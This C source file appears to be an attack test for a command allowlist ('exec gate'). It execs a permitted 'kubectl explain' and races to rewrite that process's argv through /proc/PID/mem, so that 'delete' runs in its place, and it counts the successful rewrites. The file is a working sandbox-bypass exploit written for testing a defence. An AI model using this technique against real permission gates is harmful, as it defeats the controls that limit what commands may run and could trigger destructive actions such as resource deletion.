/* Attacker for the exec gate (issue 10 #3): exec the allowed `kubectl explain pod x`, then
 * rewrite argv in the new image's memory (/proc/C/mem, read-write) before its main() reads it.
 *
 *   memwrite N KUBECTL [control]      (control: exec only, no rewrite)
 *
 * For each try: fork C, which execs KUBECTL with LD_DEBUG=all (a wider window before main);
 * the parent polls /proc/C/stat until C runs the new image (arg_start, field 48, changes),
 * then writes "delete" over the "explain" argument. Prints
 * "RESULT tries=.. opened=.. written=.. open_errno=..". An escape is the ruled program
 * printing "delete" (the test reads stdout). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

/* arg_start (field 48) of /proc/PID/stat; *state = field 3 (R, S, Z, ...) */
static unsigned long arg_start(pid_t pid, char *state) {
    char p[64], buf[4096];
    snprintf(p, sizeof p, "/proc/%d/stat", pid);
    int fd = open(p, O_RDONLY);
    if (fd < 0)
        return 0;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0)
        return 0;
    buf[n] = 0;
    char *s = strrchr(buf, ')');
    if (!s)
        return 0;
    s += 2; /* field 3 */
    if (state)
        *state = *s;
    for (int f = 3; f < 48 && s; f++) {
        s = strchr(s, ' ');
        if (s)
            s++;
    }
    return s ? strtoul(s, NULL, 10) : 0;
}

int main(int argc, char **argv) {
    if (argc < 3)
        return 2;
    int n = atoi(argv[1]);
    const char *kubectl = argv[2];
    int control = argc > 3 && strcmp(argv[3], "control") == 0;
    int opened = 0, written = 0, open_errno = 0;
    setvbuf(stdout, NULL, _IONBF, 0);
    unsigned long mine = arg_start(getpid(), NULL);
    for (int i = 0; i < n; i++) {
        pid_t c = fork();
        if (c == 0) {
            char *av[] = {"kubectl", "explain", "pod", "x", NULL};
            char *ev[] = {"LD_DEBUG=all", "PATH=/usr/bin:/bin", NULL};
            int devnull = open("/dev/null", O_WRONLY);
            dup2(devnull, 2);
            execve(kubectl, av, ev);
            _exit(127);
        }
        if (control) {
            int st;
            waitpid(c, &st, 0);
            continue;
        }
        unsigned long a = 0;
        char state = 0;
        for (int k = 0; k < 200000; k++) {
            a = arg_start(c, &state);
            if ((a && a != mine) || state == 'Z' || state == 'X')
                break;
        }
        char p[64];
        snprintf(p, sizeof p, "/proc/%d/mem", c);
        int fd = -1;
        /* right after the new mm is installed it is briefly not dumpable (EACCES): retry */
        for (int k = 0; k < 2000 && fd < 0 && state != 'Z'; k++) {
            fd = open(p, O_RDWR);
            if (fd < 0 && errno != EACCES)
                break;
        }
        if (fd < 0) {
            open_errno = errno;
        } else {
            opened++;
            char region[512];
            ssize_t got = pread(fd, region, sizeof region, (off_t)a);
            for (ssize_t off = 0; got > 8 && off + 8 <= got; off++) {
                if (memcmp(region + off, "explain", 8) == 0) {
                    if (pwrite(fd, "delete", 7, (off_t)(a + off)) == 7)
                        written++;
                    break;
                }
            }
            close(fd);
        }
        int st;
        waitpid(c, &st, 0);
    }
    printf("RESULT tries=%d opened=%d written=%d open_errno=%d\n", n, opened, written, open_errno);
    return 0;
}
